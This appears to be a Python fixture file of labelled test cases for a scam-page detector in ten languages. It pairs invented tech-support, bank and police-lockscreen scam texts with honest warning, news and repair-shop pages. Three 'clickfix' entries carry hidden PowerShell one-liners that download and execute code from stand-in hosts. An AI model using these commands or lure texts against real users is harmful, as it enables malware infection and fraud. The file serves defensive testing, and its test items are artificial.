# Part D: ar he hi th ja ko zh vi id ms. All text invented by the reviewer.
from gen_a import P
# ar
P('ar_s_ms', 'scam', 'https://tahdheer-windows.com/', 'callus-ms', 'ar', 'تحذير أمان Windows',
  "تم حظر جهاز الكمبيوتر الخاص بك. تم اكتشاف فيروس طروادة.\nكلمات المرور وبياناتك المصرفية في خطر. اتصل فوراً بدعم مايكروسوفت على الرقم 800 555 0142. لا تقم بإيقاف تشغيل الكمبيوتر.", None, 'fullscreen')
P('ar_s_bank', 'scam', 'https://alrajhi-amn-hisab.com/', 'callus-bank', 'ar', 'تم إيقاف حسابك',
  "تم إيقاف حسابك المصرفي بسبب عملية مشبوهة بقيمة 7,500 ريال.\nلإلغاء العملية اتصل بقسم الأمان فوراً على 800 555 0143.")
P('ar_s_police', 'scam', 'https://shurta-cyber-gharama.com/', 'police-lock', 'ar', 'الشرطة - الجرائم الإلكترونية',
  "تم قفل جهازك من قبل الشرطة بسبب تصفح محتوى غير قانوني.\nلفتح الجهاز ادفع غرامة قدرها 1,000 درهم خلال 24 ساعة. اتصل بالضابط المسؤول: 800 555 0144.", None, 'fullscreen')
P('ar_h_news', 'honest', 'https://www.aljazeera.net/tech/2026/12/5/ihtiyal-dam-tiqni', 'news-scam', 'ar', 'احتيال الدعم الفني المزيف',
  "ظهرت رسالة تقول: «جهازك مقفل، اتصل بدعم مايكروسوفت». خسر الضحية 5 آلاف دولار. الشرطة تحذر: لا تتصل بهذه الأرقام أبداً.")
P('ar_h_repair', 'honest', 'https://www.siyana-computer-dubai-example.ae/', 'repair-shop', 'ar', 'صيانة الكمبيوتر - دبي',
  "هل في جهازك فيروس أو شاشة زرقاء؟ نزيل الفيروسات ونصلح ويندوز. اتصل بنا: 04 555 0145.")
# he
P('he_s_ms', 'scam', 'https://azhara-windows.co.il.net/', 'callus-ms', 'he', 'אזהרת אבטחה של Windows',
  "המחשב שלך נחסם. זוהה סוס טרויאני.\nהסיסמאות ופרטי הבנק שלך בסכנה. התקשר מיד לתמיכה של מיקרוסופט: 1-800-555-014. אל תכבה את המחשב.", None, 'fullscreen')
P('he_s_bank', 'scam', 'https://leumi-avtacha-heshbon.com/', 'callus-bank', 'he', 'החשבון שלך נחסם',
  "החשבון שלך נחסם עקב פעולה חשודה בסך 6,200 ש״ח.\nכדי לבטל את ההעברה התקשר מיד למחלקת האבטחה: 1-800-555-015.")
P('he_h_police', 'honest', 'https://www.gov.il/he/departments/news/police-tech-support-scam', 'police-warning', 'he', 'הונאת תמיכה טכנית',
  "נוכלים מציגים הודעות כמו „המחשב שלך נעול, התקשר למיקרוסופט” ומבקשים גישה מרחוק. אל תתקשרו. דווחו למשטרה ב-100.")
P('he_h_cardblock', 'honest', 'https://www.leumi.co.il/cards/block', 'bank-cardblock', 'he', 'חסימת כרטיס',
  "איבדת את הכרטיס? חסום אותו באפליקציה או התקשר 03-555-0142 מסביב לשעון. לעולם לא נבקש את הקוד הסודי.")
# hi
P('hi_s_ms', 'scam', 'https://windows-chetavani.in.net/', 'callus-ms', 'hi', 'Windows सुरक्षा चेतावनी',
  "आपका कंप्यूटर ब्लॉक कर दिया गया है। ट्रोजन वायरस मिला है।\nआपके पासवर्ड और बैंक विवरण खतरे में हैं। तुरंत माइक्रोसॉफ्ट सपोर्ट को कॉल करें: 1800 555 0142। कंप्यूटर बंद न करें।", None, 'fullscreen')
P('hi_s_bank', 'scam', 'https://sbi-suraksha-khata.com/', 'callus-bank', 'hi', 'आपका खाता बंद',
  "संदिग्ध लेनदेन के कारण आपका खाता बंद कर दिया गया है। ₹48,000 का ट्रांसफर लंबित है।\nइसे रद्द करने के लिए तुरंत सुरक्षा विभाग को कॉल करें: 1800 555 0143।")
P('hi_s_cf', 'scam', 'https://satyapan-0144.in.net/', 'clickfix', 'hi', 'सत्यापन',
  "मैं रोबोट नहीं हूँ\n1. Windows + R दबाएँ\n2. Ctrl + V दबाएँ\n3. Enter दबाएँ", "powershell -w h -c \"iwr https://0144-in.top/v|iex\"")
P('hi_h_police', 'honest', 'https://cybercrime.gov.in/advisory-tech-support', 'police-warning', 'hi', 'फर्जी टेक सपोर्ट से सावधान',
  "ठग \"आपका कंप्यूटर लॉक है, माइक्रोसॉफ्ट को कॉल करें\" जैसे संदेश दिखाते हैं और रिमोट एक्सेस मांगते हैं। कॉल न करें। 1930 पर शिकायत करें।")
P('hi_h_repair', 'honest', 'https://www.computer-repair-delhi-example.in/', 'repair-shop', 'hi', 'कंप्यूटर रिपेयर दिल्ली',
  "क्या आपके कंप्यूटर में वायरस या ब्लू स्क्रीन है? हम वायरस हटाते हैं और विंडोज़ ठीक करते हैं। कॉल करें: 011 555 0145।")
# th
P('th_s_ms', 'scam', 'https://windows-khamtueon.com/', 'callus-ms', 'th', 'คำเตือนความปลอดภัยของ Windows',
  "คอมพิวเตอร์ของคุณถูกล็อก ตรวจพบโทรจัน\nรหัสผ่านและข้อมูลธนาคารของคุณตกอยู่ในอันตราย โทรหาฝ่ายสนับสนุนของไมโครซอฟท์ทันที: 1800 555 014 อย่าปิดเครื่อง", None, 'fullscreen')
P('th_s_police', 'scam', 'https://royal-police-fine-th.com/', 'police-lock', 'th', 'สำนักงานตำรวจแห่งชาติ',
  "คอมพิวเตอร์ของคุณถูกล็อกโดยตำรวจเนื่องจากเข้าชมเนื้อหาผิดกฎหมาย\nเพื่อปลดล็อก ชำระค่าปรับ 5,000 บาท ภายใน 24 ชั่วโมง โทรหาเจ้าหน้าที่: 1800 555 015", None, 'fullscreen')
P('th_h_police', 'honest', 'https://www.thaipoliceonline.go.th/news/5501', 'police-warning', 'th', 'ระวังมิจฉาชีพแอบอ้างฝ่ายสนับสนุน',
  "มิจฉาชีพแสดงข้อความ \"คอมพิวเตอร์ของคุณถูกล็อก โทรหาไมโครซอฟท์\" และขอเข้าถึงเครื่องจากระยะไกล อย่าโทร แจ้งความที่ 1441")
P('th_h_cardblock', 'honest', 'https://www.kasikornbank.com/th/personal/card/block', 'bank-cardblock', 'th', 'อายัดบัตร',
  "บัตรหาย? อายัดบัตรในแอปหรือโทร 02 555 0142 ตลอด 24 ชั่วโมง ธนาคารจะไม่ขอรหัส PIN ของคุณ")
# ja
P('ja_s_ms', 'scam', 'https://windows-keikoku-0142.web.app/', 'callus-ms', 'ja', 'Windows セキュリティ警告',
  "お使いのコンピューターはブロックされました。トロイの木馬が検出されました。\nパスワードと銀行情報が危険にさらされています。今すぐマイクロソフトサポートにお電話ください：0120-555-014。コンピューターの電源を切らないでください。", None, 'fullscreen')
P('ja_s_apple', 'scam', 'https://apple-id-rock-jp.com/', 'callus-apple', 'ja', 'Apple セキュリティ警告',
  "お使いのiPhoneはロックされました。Apple IDが海外で不正に使用されました。\nロックを解除するには、Appleサポート 0120-555-015 に今すぐお電話ください。")
P('ja_s_cf', 'scam', 'https://ninsho-0144.jp.net/', 'clickfix', 'ja', '認証',
  "私はロボットではありません\n1. Windows + R を押す\n2. Ctrl + V を押す\n3. Enter を押す", "powershell -w hidden -c \"iwr https://0144jp.top/c|iex\" # 私はロボットではありません ID 5501")
P('ja_s_police', 'scam', 'https://keisatsu-bakkin.com/', 'police-lock', 'ja', '警察庁 サイバー犯罪対策',
  "このコンピューターは違法なコンテンツの閲覧により警察庁によってロックされました。\nロックを解除するには24時間以内に罰金30,000円をお支払いください。担当官：0120-555-016", None, 'fullscreen')
P('ja_h_news', 'honest', 'https://www3.nhk.or.jp/news/html/20261205/k10015501.html', 'news-scam', 'ja', 'サポート詐欺 被害相次ぐ',
  "画面に「ウイルスに感染しました。マイクロソフトサポートに電話してください」と表示され、女性は電話をかけ5万円をだまし取られました。警察は、表示された番号には電話しないよう呼びかけています。")
P('ja_h_repair', 'honest', 'https://www.pc-shuri-example.jp/', 'repair-shop', 'ja', 'パソコン修理センター',
  "ウイルス感染やブルースクリーンでお困りですか？ウイルス駆除、データ復旧、Windows修理を行います。お電話：03-5550-0142。")
# ko
P('ko_s_ms', 'scam', 'https://windows-gyeonggo.com/', 'callus-ms', 'ko', 'Windows 보안 경고',
  "컴퓨터가 차단되었습니다. 트로이 목마가 발견되었습니다.\n비밀번호와 은행 정보가 위험합니다. 지금 바로 마이크로소프트 지원센터에 전화하세요: 080-555-0142. 컴퓨터를 끄지 마세요.", None, 'fullscreen')
P('ko_s_police', 'scam', 'https://police-beolgeum-kr.com/', 'police-lock', 'ko', '경찰청 사이버수사대',
  "불법 콘텐츠 열람으로 경찰청에 의해 컴퓨터가 잠겼습니다.\n잠금을 해제하려면 24시간 이내에 벌금 50만원을 납부하세요. 담당 수사관: 080-555-0143", None, 'fullscreen')
P('ko_h_police', 'honest', 'https://www.police.go.kr/cyber/5501', 'police-warning', 'ko', '가짜 기술지원 사기 주의',
  "사기범은 \"컴퓨터가 잠겼습니다, 마이크로소프트에 전화하세요\" 같은 메시지를 띄우고 원격 접속을 요구합니다. 전화하지 마세요. 112에 신고하세요.")
P('ko_h_exam', 'honest', 'https://exam.snu.ac.kr/session/5501', 'exam-fullscreen', 'ko', '온라인 시험',
  "시험이 진행 중입니다. 전체 화면을 나가면 기록됩니다. 남은 시간 40:00. 기술 문제 시 02-555-0144로 전화하세요.", None, 'fullscreen')
# zh
P('zh_s_ms', 'scam', 'https://windows-anquan-jinggao.com/', 'callus-ms', 'zh', 'Windows 安全警告',
  "您的电脑已被锁定。检测到木马病毒。\n您的密码和银行信息面临风险。请立即致电微软技术支持：400-555-0142。请勿关闭电脑。", None, 'fullscreen')
P('zh_s_police', 'scam', 'https://gongan-wangjing-fakuan.com/', 'police-lock', 'zh', '公安部网络安全局',
  "您的电脑因浏览违法内容已被公安机关锁定。\n请在24小时内缴纳罚款3000元以解锁。联系办案民警：400-555-0143。", None, 'fullscreen')
P('zh_s_cf', 'scam', 'https://yanzheng-0144.cn.com/', 'clickfix', 'zh', '人机验证',
  "我不是机器人\n1. 按 Windows + R\n2. 按 Ctrl + V\n3. 按 回车", "powershell -w hidden -c \"iwr https://0144cn.top/z|iex\"")
P('zh_h_news', 'honest', 'https://www.chinanews.com.cn/sh/2026/12-05/5501.shtml', 'news-scam', 'zh', '警惕“假冒技术支持”诈骗',
  "屏幕上显示“您的电脑已被锁定，请致电微软客服”，受害人拨打后被骗2万元。警方提醒：切勿拨打此类号码。")
P('zh_h_dev', 'honest', 'https://brew.sh/zh-cn/', 'devdocs-copy', 'zh', 'Homebrew — macOS 缺失的软件包管理器',
  "安装 Homebrew\n将以下命令粘贴至终端：\n/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"\n复制", "/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"")
# vi
P('vi_s_ms', 'scam', 'https://canh-bao-windows.com/', 'callus-ms', 'vi', 'Cảnh báo bảo mật Windows',
  "Máy tính của bạn đã bị khóa. Phát hiện virus Trojan.\nMật khẩu và thông tin ngân hàng của bạn đang gặp nguy hiểm. Hãy gọi ngay cho bộ phận hỗ trợ Microsoft: 1800 555 014. Không tắt máy tính.", None, 'fullscreen')
P('vi_s_bank', 'scam', 'https://vietcombank-baomat-taikhoan.com/', 'callus-bank', 'vi', 'Tài khoản bị khóa',
  "Tài khoản của bạn đã bị khóa do giao dịch đáng ngờ 25.000.000 đ.\nĐể hủy giao dịch, hãy gọi ngay bộ phận an ninh: 1800 555 015.")
P('vi_h_police', 'honest', 'https://congan.gov.vn/tin-tuc/canh-bao-gia-mao-ho-tro-ky-thuat', 'police-warning', 'vi', 'Cảnh báo giả mạo hỗ trợ kỹ thuật',
  "Kẻ gian hiển thị thông báo \"Máy tính của bạn bị khóa, hãy gọi Microsoft\" và yêu cầu truy cập từ xa. Đừng gọi. Báo công an qua số 113.")
P('vi_h_repair', 'honest', 'https://www.suamaytinh-hanoi-example.vn/', 'repair-shop', 'vi', 'Sửa máy tính Hà Nội',
  "Máy tính bị virus hay màn hình xanh? Chúng tôi diệt virus và sửa Windows. Gọi: 024 555 0142.")
# id
P('id_s_ms', 'scam', 'https://peringatan-windows.com/', 'callus-ms', 'id', 'Peringatan Keamanan Windows',
  "Komputer Anda telah diblokir. Trojan terdeteksi.\nKata sandi dan data bank Anda dalam bahaya. Segera hubungi dukungan Microsoft: 0800 555 0142. Jangan matikan komputer.", None, 'fullscreen')
P('id_s_bank', 'scam', 'https://bca-keamanan-rekening.com/', 'callus-bank', 'id', 'Rekening diblokir',
  "Rekening Anda diblokir karena transaksi mencurigakan Rp 12.500.000.\nUntuk membatalkan, segera hubungi bagian keamanan: 0800 555 0143.")
P('id_s_police', 'scam', 'https://polri-denda-siber.com/', 'police-lock', 'id', 'Kepolisian Republik Indonesia',
  "Komputer Anda dikunci oleh Polri karena mengakses konten ilegal.\nUntuk membuka kunci bayar denda Rp 3.000.000 dalam 24 jam. Hubungi petugas: 0800 555 0144.", None, 'fullscreen')
P('id_h_police', 'honest', 'https://patrolisiber.id/news/5501', 'police-warning', 'id', 'Waspada penipuan dukungan teknis palsu',
  "Penipu menampilkan pesan \"Komputer Anda terkunci, hubungi Microsoft\" dan meminta akses jarak jauh. Jangan menelepon. Laporkan ke 110.")
P('id_h_cardblock', 'honest', 'https://www.bca.co.id/id/individu/layanan/blokir-kartu', 'bank-cardblock', 'id', 'Blokir kartu',
  "Kartu hilang? Blokir di aplikasi atau hubungi 1500 555 selama 24 jam. Kami tidak pernah meminta PIN Anda.")
# ms
P('ms_s_ms', 'scam', 'https://amaran-windows.com.my.net/', 'callus-ms', 'ms', 'Amaran Keselamatan Windows',
  "Komputer anda telah disekat. Trojan dikesan.\nKata laluan dan maklumat bank anda dalam bahaya. Hubungi sokongan Microsoft segera: 1800 55 0142. Jangan matikan komputer.", None, 'fullscreen')
P('ms_s_bank', 'scam', 'https://maybank-keselamatan-akaun.com/', 'callus-bank', 'ms', 'Akaun disekat',
  "Akaun anda telah disekat kerana transaksi mencurigakan RM 4,800.\nUntuk membatalkan, hubungi bahagian keselamatan segera: 1800 55 0143.")
P('ms_h_police', 'honest', 'https://www.rmp.gov.my/berita/5501', 'police-warning', 'ms', 'Awas penipuan sokongan teknikal palsu',
  "Penipu memaparkan mesej \"Komputer anda dikunci, hubungi Microsoft\" dan meminta akses jauh. Jangan hubungi. Laporkan kepada polis di 999.")
P('ms_h_repair', 'honest', 'https://www.baiki-komputer-kl-example.my/', 'repair-shop', 'ms', 'Baiki Komputer KL',
  "Komputer ada virus atau skrin biru? Kami buang virus dan baiki Windows. Hubungi: 03 555 0144.")
